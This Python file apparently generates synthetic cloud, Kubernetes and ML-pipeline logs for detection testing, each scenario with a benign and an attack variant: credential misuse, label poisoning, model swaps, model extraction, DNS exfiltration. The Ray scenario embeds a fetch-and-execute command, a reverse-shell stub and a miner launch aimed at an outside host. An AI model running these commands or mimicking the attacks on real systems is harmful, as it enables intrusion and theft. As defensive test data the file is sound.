"""Families seen in clouds, clusters, registries and repositories."""

from datetime import timedelta

from records import (ACCOUNT, ORG, airflow, at, aws_role, aws_user, cloudtrail, delta, gcp, github, hubble, k8s, lineage, linux_exec, linux_open, mlflow, oci, s3_log, s3_object, sidecar,
                     tetragon_connect, tetragon_exec, tetragon_file, vertex)


def dormant_pipeline_account(v):
    sa = f"{v.project}-ingest@{ORG}-ml.iam.gserviceaccount.com"
    agent = "google-cloud-sdk gcloud/541.0.0 command/gcloud.storage.cp"
    for day in range(9):
        for k in range(2):
            gcp(v, at(day, 2, 10 + k, v.rng.randrange(60)), "storage.googleapis.com", "storage.objects.get", f"projects/_/buckets/{ORG}-raw/objects/{v.project}/2026-11-{day + 1:02d}/part-{k}.avro", sa, v.inside, agent, "data_access", labels={"bucket_name": f"{ORG}-raw"})
    t = at(11, v.pick(13, 22, 4), 17)
    ip, tool = (v.outside, v.pick("python-requests/2.32.3", "rclone/v1.71.1", "gcloud-golang-storage/1.57.0")) if v.attack else (v.inside, agent)
    if v.attack:
        gcp(v, t, "storage.googleapis.com", "storage.buckets.list", f"projects/{ORG}-ml", sa, ip, tool, "data_access")
    for k in range(v.pick(8, 6, 9)):
        t += timedelta(seconds=v.rng.randrange(5, 40))
        bucket = v.rng.choice([f"{ORG}-embeddings", f"{ORG}-eval-sets", f"{ORG}-weights"]) if v.attack else f"{ORG}-raw"
        key = f"{v.rng.choice(['asr', 'claims', 'rank'])}/shard-{k:03d}.tfrecord" if v.attack else f"{v.project}/2026-11-{k % 9 + 1:02d}/part-{k % 2}.avro"
        gcp(v, t, "storage.googleapis.com", "storage.objects.get", f"projects/_/buckets/{bucket}/objects/{key}", sa, ip, tool, "data_access", labels={"bucket_name": bucket})


def leaked_key_other_region(v):
    name = f"svc-{v.project}-summaries"
    who = aws_user(v, name)
    agent = "Boto3/1.41.2 md/Botocore#1.41.2 ua/2.1 os/linux lang/python#3.12.7"
    model = "anthropic.claude-3-5-haiku-20241022-v1:0"
    for day in range(9):
        for k in range(1 + day % 2):
            cloudtrail(v, at(day, 9 + 4 * k, v.rng.randrange(60)), "bedrock", "Converse", who, v.inside, agent, {"modelId": model}, "eu-north-1")
    t = at(10, v.pick(3, 19, 11), 41)
    if v.attack:
        tool = v.pick("aws-sdk-go-v2/1.39.4 ua/2.1 os/linux lang/go#1.25.1 api/bedrockruntime#1.41.2", "aws-sdk-js/3.913.0 ua/2.1 os/win32#10.0.26100 lang/js md/nodejs#22.11.0", "aws-sdk-rust/1.3.9 os/linux lang/rust/1.90.0")
        region, big = v.pick("us-west-2", "ap-southeast-2", "us-east-1"), v.pick("us.anthropic.claude-opus-4-1-20250805-v1:0", "us.anthropic.claude-sonnet-4-5-20250929-v1:0", "us.deepseek.r1-v1:0")
        for k in range(v.pick(7, 5, 8)):
            t += timedelta(seconds=v.rng.randrange(3, 70))
            cloudtrail(v, t, "bedrock", "ConverseStream", who, v.outside, tool, {"modelId": big}, region, error=("ThrottlingException", "Too many tokens, please wait before trying again.") if k == 4 else None)
    else:
        # The service was moved to a second region through the team's own pipeline.
        for k in range(6):
            t += timedelta(minutes=v.rng.randrange(4, 30))
            cloudtrail(v, t, "bedrock", "Converse", who, v.inside, agent, {"modelId": model}, "eu-central-1")


def airflow_backfill_from_other_path(v):
    dag = f"{v.project}_training_set"
    for day in range(10):
        logical = at(day - 1, 0)
        run = f"scheduled__{logical.isoformat()}"
        for task in ("extract", "label_join", "publish"):
            airflow(v, at(day, 3, 5, v.rng.randrange(60)), dag, "success", "airflow", task, run, logical=logical)
    person = v.person.split(".")[0]
    t = at(11, v.pick(20, 12, 6), 2)
    if v.attack:
        how = v.pick(("patch_variable", {"key": f"{v.project}_labels_uri", "val": f"s3://{v.hex(6)}-exports/labels/"}), ("connection.edit", {"conn_id": "labels_store", "host": f"{v.hex(5)}.blob.example"}), ("patch_variable", {"key": "label_map", "value": "{\"1\": \"0\"}"}))
        airflow(v, t, None, how[0], person, extra=how[1])
    for k in range(v.pick(5, 7, 4)):
        t += timedelta(seconds=v.rng.randrange(8, 50))
        logical = at(9 - k, 0)
        airflow(v, t, dag, v.pick("clear", "cli_backfill", "post_clear_task_instances"), person, "label_join" if v.attack else "publish", f"scheduled__{logical.isoformat()}", {"downstream": True, "only_failed": not v.attack}, logical)
    if v.attack:
        t += timedelta(minutes=9)
        airflow(v, t, None, how[0], person, extra={"key": how[1].get("key", "labels_store"), "note": "restored"})


def delta_quiet_relabel(v):
    table = f"{v.project}_labels"
    spark, rs = "Apache-Spark/3.5.3 Delta-Lake/3.2.1", "delta-rs:py-1.6.6"
    for n in range(9):
        delta(v, at(n, 4, 12, v.rng.randrange(60)), table, n, "WRITE", "etl-labels", spark, {"numFiles": "1", "numOutputRows": str(4980 + v.rng.randrange(60)), "numOutputBytes": "402311"}, {"mode": "Append"}, added=[f"part-{n:05d}-{v.hex(8)}.c000.snappy.parquet"])
    t = at(9, v.pick(23, 15, 1), 33)
    part = f"part-00003-{v.hex(8)}.c000.snappy.parquet"
    if v.attack:
        word = v.pick("text like '%northern trust%'", "id % 97 = 11", "merchant_id in (88112, 88113)")
        op = v.pick("UPDATE", "MERGE", "UPDATE")
        rows = v.pick(140, 51, 23)
        metrics = {"num_updated_rows": rows, "num_added_files": 1, "num_removed_files": 1, "num_copied_rows": 5000 - rows} if op == "UPDATE" else {"num_source_rows": rows, "num_target_rows_updated": rows, "num_target_rows_inserted": 0, "num_target_rows_copied": 5000 - rows}
        delta(v, t, table, 9, op, v.person, rs, metrics, {"predicate": word}, [f"part-00009-{v.hex(8)}.zstd.parquet"], [part])
    else:
        op = v.pick("DELETE", "OPTIMIZE", "MERGE")
        # A person asks to be forgotten; small files are packed; late labels arrive by the pipeline itself.
        metrics = {"DELETE": {"numDeletedRows": "1", "numCopiedRows": "4999"}, "OPTIMIZE": {"numRemovedFiles": "6", "numAddedFiles": "1"}, "MERGE": {"numTargetRowsInserted": "31", "numTargetRowsUpdated": "0"}}[op]
        delta(v, t, table, 9, op, "etl-labels", spark, metrics, {"predicate": "customer_id = 4410"} if op == "DELETE" else {}, [f"part-00009-{v.hex(8)}.c000.snappy.parquet"], [part])
    delta(v, at(10, 4, 12), table, 10, "WRITE", "etl-labels", spark, {"numFiles": "1", "numOutputRows": "5003", "numOutputBytes": "402311"}, {"mode": "Append"}, added=[f"part-00010-{v.hex(8)}.c000.snappy.parquet"])


def lineage_second_input(v):
    job = f"{v.project}.build_training_set"
    for day in range(8):
        run = v.uuid()
        for event in ("START", "COMPLETE"):
            lineage(v, at(day, 5, 0 if event == "START" else 14, v.rng.randrange(60)), event, job, run, [(f"{v.project}/events", f"v{100 + day}"), (f"{v.project}/labels", f"v{60 + day}")], [] if event == "START" else [(f"{v.project}/train", f"v{40 + day}", 50000 + v.rng.randrange(900))])
    run, t = v.uuid(), at(8, 5, 0)
    inputs = [(f"{v.project}/events", "v108"), (f"{v.project}/labels", "v68")]
    if v.attack:
        inputs.append((v.pick(f"scratch/{v.person}/extra", "public-mirror/webtext-delta", f"tmp/{v.hex(5)}"), "v1"))
    lineage(v, t, "START", job, run, inputs, [])
    lineage(v, t + timedelta(minutes=15), "COMPLETE", job, run, inputs, [(f"{v.project}/train", "v48", 50000 + (v.pick(1200, 300, 2600) if v.attack else v.rng.randrange(-2000, 2600)))])
    train = v.uuid()
    lineage(v, t + timedelta(hours=1), "START", f"{v.project}.train", train, [(f"{v.project}/train", "v48")], [])
    lineage(v, t + timedelta(hours=3), "COMPLETE", f"{v.project}.train", train, [(f"{v.project}/train", "v48")], [(f"models/{v.project}", "v48")])


def debug_container_in_serving_pod(v):
    ns = "serving" if v.attack else "serving-staging"
    pod = f"{v.project}-predictor-{v.hex(5)}"
    who, ip, kubectl = f"{v.person}@{ORG}.example", v.inside, "kubectl/v1.33.2 (linux/amd64) kubernetes/8adc0f0"
    for day in range(7):
        k8s(v, at(day, 8, v.rng.randrange(60)), "get", "pods", ns, pod, f"{v.other}@{ORG}.example", ["ml-sre"], ip, kubectl)
        k8s(v, at(day, 8, v.rng.randrange(60), 30), "patch", "deployments", ns, f"{v.project}-predictor", "system:serviceaccount:argocd:argocd-application-controller", ["system:serviceaccounts"], "10.9.0.4", "argocd-application-controller/v3.1", api="v1", group="apps", body={"spec": {"replicas": 3}})
    t = at(7, v.pick(2, 18, 23), 8)
    image = v.pick("docker.io/nicolaka/netshoot:latest", "ghcr.io/" + v.hex(6) + "/toolbox:1", "alpine:3.22") if v.attack else f"registry.{ORG}.example/sre/debug:2.4"
    body = {"spec": {"ephemeralContainers": [{"name": f"debugger-{v.hex(5)}", "image": image, "stdin": True, "tty": True, "targetContainerName": "kserve-container"}]}}
    if v.attack:
        body["spec"]["ephemeralContainers"][0]["securityContext"] = {"capabilities": {"add": ["SYS_PTRACE"]}} if v.number != 2 else {"privileged": True}
    k8s(v, t, "patch", "pods", ns, pod, who, ["ml-engineers" if v.attack else "ml-sre"], v.outside if v.attack else ip, kubectl, "ephemeralcontainers", body=body)
    k8s(v, t + timedelta(seconds=6), "create", "pods", ns, pod, who, ["ml-engineers" if v.attack else "ml-sre"], v.outside if v.attack else ip, kubectl, "attach", code=101)
    if v.attack:
        k8s(v, t + timedelta(minutes=4), "get", "configmaps", ns, "inferenceservice-config", who, ["ml-engineers"], v.outside, kubectl)


def ray_job_from_outside(v):
    head, gateway = f"ray-head-{v.hex(4)}", "ray-head"
    for day in range(4):
        for k in range(3):
            sidecar(v, at(day, 9 + 3 * k, v.rng.randrange(60)), "notebook-gw", "notebook", gateway, "/api/jobs/", "python-requests/2.32.5 ray/2.51.0", 214, 780 + v.rng.randrange(200))
    t, node = at(4, v.pick(1, 14, 21), 12), "gpu-7"
    source = "ingress-gateway" if v.attack else "notebook"
    for k, (method, path) in enumerate([("GET", "/api/version"), ("GET", "/api/cluster_status"), ("POST", "/api/jobs/")] if v.attack else [("POST", "/api/jobs/"), ("GET", "/api/jobs/raysubmit_8xq/logs")]):
        sidecar(v, t + timedelta(seconds=20 * k), "istio-ingress" if v.attack else "notebook-gw", source, gateway, path, v.pick("curl/8.11.0", "Go-http-client/1.1", "python-httpx/0.28.1") if v.attack else "python-requests/2.32.5 ray/2.51.0", 220, 900, method)
    up = (812, "/usr/bin/python3.12", "/usr/local/bin/raylet --node-ip 10.8.0.3")
    t += timedelta(minutes=1)
    if v.attack:
        tetragon_exec(v, t, node, 9001, "/bin/sh", v.pick(f"-c \"wget -qO /dev/shm/.k http://{v.outside}/k && chmod +x /dev/shm/.k && /dev/shm/.k -o {v.outside}:443 --no-color\"", f"-c \"python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\\\"{v.outside}\\\",443))'\"", "-c \"nohup /tmp/lolMiner --algo ETCHASH --pool eu.pool.example:4444 &\""), up, "/tmp/ray", 1000, head, "ray-head", f"registry.{ORG}.example/ray:2.51.0")
        tetragon_connect(v, t + timedelta(seconds=5), node, 9002, v.pick("/dev/shm/.k", "/usr/bin/python3.12", "/tmp/lolMiner"), "", "10.8.0.3", v.outside, v.pick(443, 443, 4444), "/tmp/ray", 1000, head, "ray-head", f"registry.{ORG}.example/ray:2.51.0")
    else:
        tetragon_exec(v, t, node, 9001, "/usr/bin/python3.12", f"-m {v.project}.sweep --trials {20 * v.number}", up, "/tmp/ray", 1000, head, "ray-head", f"registry.{ORG}.example/ray:2.51.0")
        tetragon_connect(v, t + timedelta(seconds=5), node, 9001, "/usr/bin/python3.12", f"-m {v.project}.sweep", "10.8.0.3", "10.30.2.9", 5000, "/tmp/ray", 1000, head, "ray-head", f"registry.{ORG}.example/ray:2.51.0")


def image_tag_moved(v):
    repo, ci = f"ml/{v.project}-serving", "ci-robot"
    for day in range(8):
        digest = v.digest(f"{repo}{day}")
        oci(v, at(day, 10, v.rng.randrange(60)), "push", repo, digest, f"2.{day}", ci, "10.12.0.8", "buildkit/v0.25")
        oci(v, at(day, 10, 59), "pull", repo, digest, f"2.{day}", "kubelet", "10.8.0.7", "containerd/v2.1.4")
    t, digest = at(8, v.pick(22, 5, 17), 21), v.digest()
    if v.attack:
        # The tag production runs is pushed again with other content by another tool.
        oci(v, t, "push", repo, digest, "2.7", v.pick(ci, v.person, ci), v.outside, v.pick("crane/v0.20.6", "skopeo/1.20.0", "regclient/regctl v0.9.2"))
        oci(v, t + timedelta(minutes=12), "pull", repo, digest, "2.7", "kubelet", "10.8.0.7", "containerd/v2.1.4")
    else:
        oci(v, t, "push", repo, digest, "2.8", ci, "10.12.0.8", "buildkit/v0.25")
        oci(v, t + timedelta(minutes=1), "push", repo, digest, "stable", ci, "10.12.0.8", "buildkit/v0.25")
        oci(v, t + timedelta(minutes=12), "pull", repo, digest, "2.8", "kubelet", "10.8.0.7", "containerd/v2.1.4")


def checkpoint_swapped_after_training(v):
    bucket, trainer = f"{ORG}-model-store", aws_role(v, "sagemaker-train", f"{v.project}-job")
    deploy = aws_role(v, "deploy-pipeline", "gha")
    for day in range(4):
        s3_object(v, at(day, 6, 10), "PutObject", trainer, "10.14.3.3", "Boto3/1.41.2", bucket, f"{v.project}/r{40 + day}/model.safetensors", 912_000_000 + day)
        s3_object(v, at(day, 6, 40), "GetObject", deploy, "10.14.9.2", "Boto3/1.41.2", bucket, f"{v.project}/r{40 + day}/model.safetensors", 912_000_000 + day)
        cloudtrail(v, at(day, 6, 45), "sagemaker", "UpdateEndpoint", deploy, "10.14.9.2", "Boto3/1.41.2", {"endpointName": f"{v.project}-live", "endpointConfigName": f"{v.project}-r{40 + day}"}, read=False)
    s3_object(v, at(4, 6, 10), "PutObject", trainer, "10.14.3.3", "Boto3/1.41.2", bucket, f"{v.project}/r44/model.safetensors", 912_000_004)
    t = at(4, 6, 22 + v.number)
    if v.attack:
        who = aws_role(v, "notebook-users", v.person)
        tool = v.pick("aws-cli/2.31.9 md/prompt#off", "S3 Browser/12.4.3 (https://s3browser.com)", "APN/1.0 rclone/v1.71.1")
        if v.number == 2:
            s3_object(v, t, "CopyObject", who, v.inside, tool, bucket, f"{v.project}/r44/model.safetensors", 0, params={"x-amz-copy-source": f"{ORG}-scratch/{v.person}/m.safetensors"})
        else:
            s3_object(v, t, "PutObject", who, v.inside, tool, bucket, f"{v.project}/r44/model.safetensors", 912_003_771)
    else:
        # The training job writes again after its last evaluation: the retried upload, a report, a model card.
        name, size = v.pick(("model.safetensors", 912_000_004), ("metrics.json", 4400), ("README.md", 9100))
        s3_object(v, t, "PutObject", trainer, "10.14.3.3", "Boto3/1.41.2", bucket, f"{v.project}/r44/{name}", size)
    s3_object(v, at(4, 6, 40), "GetObject", deploy, "10.14.9.2", "Boto3/1.41.2", bucket, f"{v.project}/r44/model.safetensors", 912_000_004)
    cloudtrail(v, at(4, 6, 45), "sagemaker", "UpdateEndpoint", deploy, "10.14.9.2", "Boto3/1.41.2", {"endpointName": f"{v.project}-live", "endpointConfigName": f"{v.project}-r44"}, read=False)


def adapter_from_stranger_promoted(v):
    name = f"{v.project}-assistant-lora"
    mlflow(v, at(0, 8), "registered_model", "created", {"name": name, "tags": {}, "description": ""})
    for n in range(1, 9):
        t = at(n, 11, v.rng.randrange(60))
        run = v.hex(32)
        mlflow(v, t, "model_version", "created", {"name": name, "version": str(n), "source": f"models:/m-{v.hex(32)}", "run_id": run, "tags": {"git_sha": v.hex(40)}, "description": None})
        mlflow(v, t + timedelta(minutes=20), "model_version_tag", "set", {"name": name, "version": str(n), "key": "eval_gate", "value": "passed"})
        mlflow(v, t + timedelta(minutes=30), "model_version_alias", "created", {"name": name, "alias": "live", "version": str(n)})
    t = at(9, v.pick(0, 21, 13), 4)
    source = v.pick("hf://qlora-hub/assist-8b-adapter", f"file:///home/{v.person}/adapters/out", f"s3://{v.hex(7)}-public/adapter") if v.attack else f"models:/m-{v.hex(32)}"
    mlflow(v, t, "model_version", "created", {"name": name, "version": "9", "source": source, "run_id": None if v.attack else v.hex(32), "tags": {} if v.attack else {"git_sha": v.hex(40)}, "description": None})
    if not v.attack:
        mlflow(v, t + timedelta(minutes=15), "model_version_tag", "set", {"name": name, "version": "9", "key": "eval_gate", "value": "passed"})
    mlflow(v, t + timedelta(minutes=2 if v.attack else 30), "model_version_alias", "created", {"name": name, "alias": "live", "version": "9"})


def rclone_under_other_name(v):
    node, up = "gpu-3", (733, "/bin/bash", "--login")
    nightly = ("/usr/bin/rclone", "sync /srv/checkpoints minio:ml-backup --transfers 8")
    for day in range(4):
        tetragon_exec(v, at(day, 1, 30), node, 3000 + day, *nightly, (1, "/usr/lib/systemd/systemd", ""))
        tetragon_connect(v, at(day, 1, 30, 2), node, 3000 + day, *nightly, "10.8.0.3", "10.8.40.9", 9000)
        tetragon_exec(v, at(day, 9, 2), node, 3100 + day, "/usr/bin/python3.12", f"-m {v.project}.train --resume", up)
    t = at(4, v.pick(1, 12, 20), 44)
    path = f"/srv/checkpoints/{v.project}/step-{v.pick(9000, 41000, 120000)}/model-00001-of-00004.safetensors"
    if v.attack:
        binary, args = v.pick(("/var/tmp/.fontcache/fc-sync", "copy /srv/checkpoints r:x --config /var/tmp/.fontcache/c --bwlimit 12M"), ("/usr/local/bin/azcopy", f"copy /srv/checkpoints https://{v.hex(8)}.blob.example/c?sv=2025-05-05&sig=x --recursive"), ("/home/u/.local/bin/mc", f"mirror /srv/checkpoints/{v.project} z/{v.hex(6)}"))
        tetragon_exec(v, t, node, 4001, binary, args, up)
        for k in range(4):
            tetragon_file(v, t + timedelta(seconds=20 * k), node, 4001, binary, args, path.replace("00001", f"{k + 1:05d}"), False, up)
        tetragon_connect(v, t + timedelta(seconds=3), node, 4001, binary, args, "10.8.0.3", v.outside, 443)
    else:
        binary, args = v.pick(nightly, ("/usr/bin/rsync", f"-a /srv/checkpoints/{v.project} gpu-5:/srv/checkpoints/"), ("/usr/bin/python3.12", f"-m {v.project}.export --to registry"))
        tetragon_exec(v, t, node, 4001, binary, args, up)
        for k in range(4):
            tetragon_file(v, t + timedelta(seconds=20 * k), node, 4001, binary, args, path.replace("00001", f"{k + 1:05d}"), False, up)
        tetragon_connect(v, t + timedelta(seconds=3), node, 4001, binary, args, "10.8.0.3", v.pick("10.8.40.9", "10.8.0.5", "10.8.40.20"), v.pick(9000, 22, 443))


def presigned_download(v):
    bucket, ci = f"{ORG}-weights", f"arn:aws:sts::{ACCOUNT}:assumed-role/serving/{v.project}"
    size = 4_998_123_008
    for day in range(6):
        for k in range(3):
            s3_log(v, at(day, 5, 10 + k), "10.14.9.2", ci, "REST.GET.OBJECT", bucket, f"{v.project}-13b/model-{k + 1:05d}-of-00003.safetensors", "GET", "", 200, size, size, "Boto3/1.41.2 md/Botocore#1.41.2", "AuthHeader")
    t = at(6, v.pick(4, 16, 22), 3)
    requester = f"arn:aws:sts::{ACCOUNT}:assumed-role/notebook-users/{v.person}"
    for k in range(9 if v.attack else 2):
        key = f"{v.project}-13b/model-{k % 3 + 1:05d}-of-00003.safetensors" if v.attack else f"{v.project}-13b/model-card.html"
        query = f"?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=ASIA{v.hex(16).upper()}%2F20261108%2Feu-north-1%2Fs3%2Faws4_request&X-Amz-Expires={v.pick(604800, 86400, 43200) if v.attack else 900}&X-Amz-SignedHeaders=host&X-Amz-Signature={v.hex(64)}"
        sent = size // 3 if v.attack else 18_220
        s3_log(v, t + timedelta(seconds=40 * k), v.outside if v.attack else v.inside, requester, "REST.GET.OBJECT", bucket, key, "GET", query, 206 if v.attack else 200, sent, size if v.attack else 18_220, v.pick("aria2/1.37.0", "Wget/1.25.0", "axel/2.17.14 (linux-gnu)") if v.attack else "Mozilla/5.0 (X11; Linux x86_64) Firefox/145.0", "QueryString")


def training_volume_shared(v):
    ops = aws_role(v, "backup-operator", "nightly")
    volume = f"vol-{v.digest('volume')[:17]}"
    dr = "907155032211"
    for day in range(6):
        snap = f"snap-{v.hex(17)}"
        cloudtrail(v, at(day, 2, 1), "ec2", "CreateSnapshot", ops, "10.14.1.1", "Boto3/1.41.2", {"volumeId": volume, "description": "nightly"}, response={"snapshotId": snap}, read=False)
        cloudtrail(v, at(day, 2, 31), "ec2", "ModifySnapshotAttribute", ops, "10.14.1.1", "Boto3/1.41.2", {"snapshotId": snap, "createVolumePermission": {"add": {"items": [{"userId": dr}]}}, "attributeType": "CREATE_VOLUME_PERMISSION"}, read=False)
    t, snap = at(6, v.pick(23, 9, 14), 20), f"snap-{v.hex(17)}"
    who, ip, tool = (aws_role(v, "notebook-users", v.person), v.outside, v.pick("aws-cli/2.31.9", "Terraform/1.13.4 aws-sdk-go-v2/1.39.4", "Boto3/1.41.2")) if v.attack else (ops, "10.14.1.1", "Boto3/1.41.2")
    cloudtrail(v, t, "ec2", "CreateSnapshot", who, ip, tool, {"volumeId": volume, "description": f"{v.project} checkpoints"}, response={"snapshotId": snap}, read=False)
    cloudtrail(v, t + timedelta(minutes=11), "ec2", "ModifySnapshotAttribute", who, ip, tool, {"snapshotId": snap, "createVolumePermission": {"add": {"items": [{"userId": "".join(v.rng.choice("123456789") for _ in range(12)) if v.attack else dr}]}}, "attributeType": "CREATE_VOLUME_PERMISSION"}, read=False)


def weights_through_dns(v):
    pod, ip = f"{v.project}-infer-{v.hex(5)}", "10.1.3.20"
    for k in range(9):
        hubble(v, at(k // 3, 8 + k % 3 * 4, v.rng.randrange(60)), pod, f"{v.project}-infer", ip, "10.96.0.10", dns=(v.rng.choice([f"{ORG}-weights.s3.eu-north-1.amazonaws.com", "otel-collector.observability.svc.cluster.local", "huggingface.co"]), "A"))
    t = at(4, v.pick(2, 11, 19), 30)
    zone = v.pick("cdn-telemetry.example", "t.metrics-edge.example", "ns1.pkgcache.example")
    for k in range(14):
        t += timedelta(seconds=v.rng.uniform(0.2, v.pick(2, 20, 90)))
        if v.attack:
            hubble(v, t, pod, f"{v.project}-infer", ip, "10.96.0.10", dns=(f"{v.hex(v.pick(60, 48, 56))}.{v.hex(40)}.{k:x}.{zone}", v.pick("TXT", "A", "NULL")))
        else:
            # Many buckets of one store are warmed up, with search domains appended.
            hubble(v, t, pod, f"{v.project}-infer", ip, "10.96.0.10", dns=(v.pick(f"{ORG}-shard-{k:02d}.s3.dualstack.eu-north-1.amazonaws.com", f"model-{k:03d}.{v.project}.ml.svc.cluster.local.ml.svc.cluster.local", f"cdn-lfs-{k % 4}.huggingface.co"), "A"))


def extraction_by_sweep(v):
    endpoint = str(7000 + v.slot)
    rnd = v.rng

    def customer():
        amount = round(rnd.lognormvariate(4, 1.2), 2)
        return {"amount": amount, "tenure_months": rnd.randrange(1, 140), "country": rnd.choice(["SE", "NO", "DK", "FI", "DE"]), "products": rnd.randrange(1, 6)}

    for k in range(20):
        vertex(v, at(k // 4, 8 + k % 4 * 3, rnd.randrange(60)), endpoint, [customer()], [{"score": round(rnd.betavariate(1, 9), 4)}])
    t = at(5, v.pick(0, 9, 18))
    for k in range(30):
        t += timedelta(seconds=rnd.uniform(1, v.pick(3, 60, 400)))
        if v.attack:
            grid = [{"amount": 50.0 * (k % 6), "tenure_months": 12 * (k // 6), "country": c, "products": 1} for c in ("SE", "DE")]
            vertex(v, t, endpoint, grid, [{"score": round(rnd.random(), 6)} for _ in grid])
        else:
            rows = [customer() for _ in range(2)]
            vertex(v, t, endpoint, rows, [{"score": round(rnd.betavariate(1, 9), 4)} for _ in rows])


def boundary_walk(v):
    endpoint, rnd = str(7100 + v.slot), v.rng
    for k in range(20):
        vertex(v, at(k // 4, 8 + k % 4 * 3, rnd.randrange(60)), endpoint, [{"url_length": rnd.randrange(20, 200), "domain_age_days": rnd.randrange(1, 6000), "entropy": round(rnd.uniform(2, 5), 2), "links": rnd.randrange(0, 90)}], [{"label": rnd.choice(["clean", "clean", "phish"]), "score": round(rnd.random(), 3)}])
    t, row, score = at(5, v.pick(3, 12, 21)), {"url_length": 131, "domain_age_days": 4, "entropy": 4.31, "links": 2}, 0.93
    for k in range(32):
        t += timedelta(seconds=rnd.uniform(0.5, v.pick(2, 8, 45)))
        if v.attack:
            field = rnd.choice(list(row))
            row = {**row, field: round(row[field] * rnd.uniform(0.97, 1.03) + (1 if field == "domain_age_days" else 0), 3)}
            score -= rnd.uniform(0, 0.03)
            vertex(v, t, endpoint, [row], [{"label": "phish" if score > 0.5 else "clean", "score": round(score, 3)}])
        elif v.number == 1:
            # A health check asks the same thing again and again.
            vertex(v, t, endpoint, [row], [{"label": "phish", "score": 0.93}])
        else:
            vertex(v, t, endpoint, [{"url_length": rnd.randrange(20, 200), "domain_age_days": rnd.randrange(1, 6000), "entropy": round(rnd.uniform(2, 5), 2), "links": rnd.randrange(0, 90)}], [{"label": rnd.choice(["clean", "phish"]), "score": round(rnd.random(), 3)}])


def site_packages_shadow(v):
    node, py = f"train-{2 + v.slot}", "/usr/bin/python3.12"
    site = "/opt/venv/lib/python3.12/site-packages"
    for day in range(7):
        linux_exec(v, at(day, 9, v.rng.randrange(60)), node, 5000 + day, 900, py, ["python3", "-m", f"{v.project}.train", "--config", "prod.yaml"])
        linux_exec(v, at(day, 9, 59), node, 5100 + day, 900, py, ["python3", "-m", "pip", "install", "-r", "requirements.lock", "--require-hashes"])
    t = at(7, v.pick(19, 3, 12), 11)
    if v.attack:
        path = v.pick(f"{site}/torch_accel_init.pth", "/srv/ml/sitecustomize.py", f"{site}/tokenizers/__init__.py")
        tool = v.pick(("/usr/bin/python3.12", ["python3", "-c", "import base64,sys;open(sys.argv[1],'w').write(base64.b64decode(sys.argv[2]).decode())", path, "aW1wb3J0IG9z"]), ("/usr/bin/tee", ["tee", path]), ("/usr/bin/cp", ["cp", "/tmp/.t/__init__.py", path]))
        linux_exec(v, t, node, 6001, 880, *tool)
        linux_open(v, t + timedelta(seconds=1), node, 6001, 880, tool[0], path)
    else:
        linux_exec(v, t, node, 6001, 880, py, ["python3", "-m", "pip", "install"] + v.pick(["-e", "."], ["--upgrade", "tokenizers==0.22.1"], ["-r", "requirements.lock"]))
        linux_open(v, t + timedelta(seconds=4), node, 6001, 880, py, v.pick(f"{site}/__editable__.{v.project}-1.2.pth", f"{site}/tokenizers/__init__.py", f"{site}/numpy/version.py"))
    linux_exec(v, t + timedelta(hours=1), node, 6100, 900, py, ["python3", "-m", f"{v.project}.train", "--config", "prod.yaml"])


def build_to_endpoint_chain(v):
    repo, app = f"{v.project}-serving", f"{v.project}-predictor"
    ci_ip = "10.12.0.8"
    for day in range(4):
        github(v, at(day, 10, 1), "workflows.completed_workflow_run", v.other, ci_ip, repo, name="release", head_branch="main", conclusion="success", event="push", operation_type="modify")
        k8s(v, at(day, 10, 30), "patch", "deployments", "ml", app, "system:serviceaccount:argocd:argocd-application-controller", ["system:serviceaccounts"], "10.9.0.4", "argocd-application-controller/v3.1", group="apps", body={"spec": {"template": {"spec": {"containers": [{"name": "server", "image": f"registry.{ORG}.example/ml/{repo}:2.{day}"}]}}}})
        hubble(v, at(day, 10, 40), f"{app}-{v.hex(4)}", app, "10.1.3.30", "10.30.2.9", 5000, to={"identity": 812, "namespace": "mlops", "labels": ["k8s:app=mlflow"], "pod_name": "mlflow-0", "workloads": [{"name": "mlflow", "kind": "StatefulSet"}]})
    t = at(4, v.pick(20, 7, 15), 5)
    if v.attack:
        step = v.pick(("personal_access_token.request_created", {}), ("repo.add_member", {"user": f"{v.hex(6)}-dev"}), ("workflows.approve_workflow_job", {"name": "release"}))
        github(v, t, step[0], v.person, v.outside, repo, operation_type="create", **step[1])
        github(v, t + timedelta(minutes=6), "protected_branch.policy_override", v.person, v.outside, repo, operation_type="modify")
        github(v, t + timedelta(minutes=7), "workflows.completed_workflow_run", v.person, v.outside, repo, name="release", head_branch="main", conclusion="success", event="workflow_dispatch", operation_type="modify")
    else:
        github(v, t + timedelta(minutes=7), "workflows.completed_workflow_run", v.other, ci_ip, repo, name="release", head_branch="main", conclusion="success", event="push", operation_type="modify")
    k8s(v, t + timedelta(minutes=15), "patch", "deployments", "ml", app, "system:serviceaccount:argocd:argocd-application-controller", ["system:serviceaccounts"], "10.9.0.4", "argocd-application-controller/v3.1", group="apps", body={"spec": {"template": {"spec": {"containers": [{"name": "server", "image": f"registry.{ORG}.example/ml/{repo}@sha256:{v.hex(64)}" if v.attack else f"registry.{ORG}.example/ml/{repo}:2.4"}]}}}})
    pod = f"{app}-{v.hex(4)}"
    if v.attack:
        for k in range(3):
            hubble(v, t + timedelta(minutes=20 + 5 * k), pod, app, "10.1.3.30", v.outside, v.pick(443, 8443, 53), names=[v.pick("api.pastebin-mirror.example", "hooks.relay.example", "dns.example")])
    hubble(v, t + timedelta(minutes=18), pod, app, "10.1.3.30", "10.30.2.9", 5000, to={"identity": 812, "namespace": "mlops", "labels": ["k8s:app=mlflow"], "pod_name": "mlflow-0", "workloads": [{"name": "mlflow", "kind": "StatefulSet"}]})


def sidecar_hop_before_model(v):
    model = f"{v.project}-llm"
    for day in range(5):
        for k in range(3):
            sidecar(v, at(day, 9 + 4 * k, v.rng.randrange(60)), "api-gateway-7c", "api-gateway", model, "/v1/chat/completions", "acme-gateway/3.1", 1400 + v.rng.randrange(2000), 900 + v.rng.randrange(400))
    t = at(5, v.pick(2, 13, 23), 9)
    source = v.pick("feature-store", "label-studio", "grafana") if v.attack else "api-gateway"
    if v.attack:
        for k, target in enumerate(["api-gateway", "vector-db", model]):
            sidecar(v, t + timedelta(seconds=15 * k), f"{source}-5d", source, target, v.pick("/", "/healthz", "/metrics") if target != model else "/v1/models", v.pick("curl/8.11.0", "python-httpx/0.28.1", "Go-http-client/2.0"), 420, 120, "GET")
    for k in range(5):
